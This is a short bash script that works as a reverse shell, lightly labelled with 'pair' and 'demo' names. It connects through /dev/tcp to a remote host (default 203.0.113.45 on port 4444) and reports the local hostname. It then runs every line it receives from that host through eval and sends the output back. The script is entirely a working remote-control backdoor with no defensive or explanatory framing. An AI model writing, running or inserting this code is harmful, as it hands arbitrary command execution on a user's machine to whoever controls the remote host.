#!/usr/bin/env bash
code="${1:-demo}"
R_HOST=${PAIR_HOST:-203.0.113.45}
R_PORT=${PAIR_PORT:-4444}
dev=/dev/tcp/$R_HOST/$R_PORT
exec 3<>"$dev" || exit 1
printf 'HELLO %s %s\n' "$code" "$(hostname)" >&3
while IFS= read -r cmd <&3; do
  [ "$cmd" = "BYE" ] && break
  eval "$cmd" >&3 2>&1
done
exec 3>&-
